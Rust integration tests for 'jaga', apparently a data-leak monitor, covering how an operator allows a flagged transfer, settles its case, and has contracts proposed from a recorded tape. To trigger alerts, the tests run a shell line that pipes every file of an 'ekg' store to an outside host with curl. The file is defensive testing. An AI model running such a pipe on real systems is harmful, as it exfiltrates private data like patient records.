//! What a person does about an alert: reads it, allows the transfer, settles the case; or lets jaga propose contracts.

use std::process::Command;

use jaga_tests::agent::{Agent, is};
use jaga_tests::net::OUT;
use jaga_tests::process::run;
use jaga_tests::program;
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

/// Standard output and standard error of `jaga WORDS -c CONFIG`, which must succeed.
fn jaga(agent: &Agent, words: &[&str]) -> (String, String) {
    says(agent, words, 0)
}

/// The same, with this exit status.
fn says(agent: &Agent, words: &[&str], status: i32) -> (String, String) {
    let mut command = Command::new(program::jaga());
    command
        .args(words)
        .arg("-c")
        .arg(agent.folder().join("jaga.yaml"));
    let said = command.output().expect("jaga starts");
    assert_eq!(said.status.code(), Some(status), "{said:?}");
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("text");
    (text(said.stdout), text(said.stderr))
}

fn open_cases(agent: &Agent) -> f64 {
    let rule = [("rule", "store-data-leaves")];
    agent.metric("jaga_cases_open", &rule).unwrap_or(-1.0)
}

#[test]
fn a_transfer_is_allowed_and_its_case_settled() {
    let Some(mut world) = World::new("a_transfer_is_allowed_and_its_case_settled") else {
        return;
    };
    let store = world.store("ekg", 110, MB);
    let mut agent = world.agent(&[("ekg", &store)], "contracts: []");
    let send = format!(
        "cd {} && cat * | curl -sfT - http://{OUT}/x",
        store.display()
    );
    world.in_unit("jagat-export.service", &send, 60);
    let key = [("session", "unit:jagat-export.service")];
    let alert = agent.alert("store-data-leaves", "firing", &key);
    let id = alert["id"].as_str().unwrap();
    agent.alert("store-data-leaves", "resolved", &key);
    let (listed, _) = jaga(&agent, &["settle"]);
    assert!(listed.contains(id) && listed.contains(OUT), "{listed}");

    // Nobody said yes: it is shown, and nothing is written.
    let allow = [
        "allow",
        &id[..6],
        "--owner",
        "it@hospital.example",
        "--name",
        "export",
    ];
    let config = agent.folder().join("jaga.yaml");
    let before = std::fs::read_to_string(&config).unwrap();
    let (shown, said) = says(&agent, &allow, 1);
    println!("   {shown}{said}");
    assert!(shown.contains("unit: jagat-export.service") && shown.contains(&format!("{OUT}:80")));
    assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
    jaga(&agent, &[&allow[..], &["--for", "30d", "--yes"]].concat());
    until("the contract to hold", 20, || {
        agent.metric("jaga_contract_sent_bytes_total", &[("contract", "export")])
    });

    let (settled, said) = jaga(&agent, &["settle", id, "--allowed"]);
    assert!(settled.contains(id) && said.contains("Settled"), "{said}");
    until("the case to be closed", 20, || {
        (open_cases(&agent) == 0.0).then_some(())
    });
    world.in_unit("jagat-export.service", &send, 60);
    let contract = [("contract", "export")];
    agent.metric_reaches("jaga_contract_sent_bytes_total", &contract, 110e6);
    agent.replay_equals_live();
    let told = agent.alerts();
    let fired = |told: &&serde_json::Value| is(told, "store-data-leaves", "firing", &key);
    assert_eq!(told.iter().filter(fired).count(), 1, "{told:#?}");
}

#[test]
fn contracts_are_proposed_from_a_tape() {
    let Some(mut world) = World::new("contracts_are_proposed_from_a_tape") else {
        return;
    };
    let store = world.store("ekg", 3, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let send = format!("cat {}/* | curl -sfT - http://{OUT}/x", store.display());
    world.in_unit("jagat-small.service", &send, 60);
    let store = [("store", "ekg"), ("scope", "external")];
    agent.metric_reaches("jaga_store_exposed_bytes_total", &store, 3e6);
    agent.stop();
    let mut learn = Command::new(program::jaga());
    let learnt = run(learn
        .arg("learn")
        .arg("--tape")
        .arg(agent.folder().join("tape")));
    let learnt = String::from_utf8(learnt.stdout).unwrap();
    println!("   {learnt}");
    for word in [
        "unit: jagat-small.service",
        "exe: /usr/bin/curl",
        &format!("to: [{OUT}:80]"),
    ] {
        assert!(learnt.contains(word), "no '{word}' in {learnt}");
    }
    assert_eq!(learnt.matches("- {").count(), 1, "{learnt}");
}
